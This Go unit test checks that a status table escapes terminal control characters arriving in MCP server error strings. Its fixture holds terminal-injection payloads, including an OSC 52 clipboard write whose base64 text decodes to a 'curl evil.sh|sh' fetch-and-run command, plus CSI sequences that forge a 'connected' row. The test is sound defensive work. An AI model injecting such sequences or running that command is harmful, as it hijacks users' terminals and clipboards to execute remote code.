package statusapi

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/mcp-reconnect/mcp-reconnect/internal/reconnect"
)

// `status` prints OpenCode's error strings, server names and directory
// paths, and an error string carries what a remote MCP server answered
// (1.x: "Streamable HTTP error: Error POSTing to endpoint (HTTP 400): …").
// None of it may reach the terminal as control: OSC 52 sets the clipboard
// in most terminals, CSI sequences and a bare "\r" rewrite what the table
// shows, U+202E reverses it (kubectl's CVE-2021-25743 is the same class).
func TestStatusTableEscapesControlCharacters(t *testing.T) {
	now := time.Now()
	st := Status{Servers: []reconnect.Snapshot{{
		URL:    "http://127.0.0.1:4096",
		Stream: reconnect.StreamState{LastError: "refused\x1b[31m"},
		Directories: []reconnect.DirSnapshot{{
			Directory: "/home/u/p\x1b]0;title\x07", ArmedBy: "session.updated",
			Servers: []reconnect.ServerSnapshot{{
				Name: "remote\u202e", Status: "failed",
				Error: "Streamable HTTP error: \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\r\x1b[2Kremote  connected\u009b",
			}},
		}, {
			Directory: "/home/u/q", LastError: "bad\tbody\n\x1b[1A",
		}},
	}}}
	var b bytes.Buffer
	if err := WriteTable(&b, st, now); err != nil {
		t.Fatal(err)
	}
	out := b.String()
	if i := strings.IndexFunc(out, func(r rune) bool {
		return r < 0x20 && r != '\n' || r >= 0x7f && r <= 0x9f || r == '\u202e'
	}); i >= 0 {
		t.Fatalf("status table holds control character %q at byte %d:\n%q", []rune(out[i:])[0], i, out)
	}
	for _, want := range []string{`\x1b]52;c;`, `\r`, `\u202e`, `/home/u/p\x1b]0;title\x07`, `bad\tbody\n`, `refused\x1b[31m`} {
		if !strings.Contains(out, want) {
			t.Errorf("the table does not show %q escaped:\n%s", want, out)
		}
	}
}
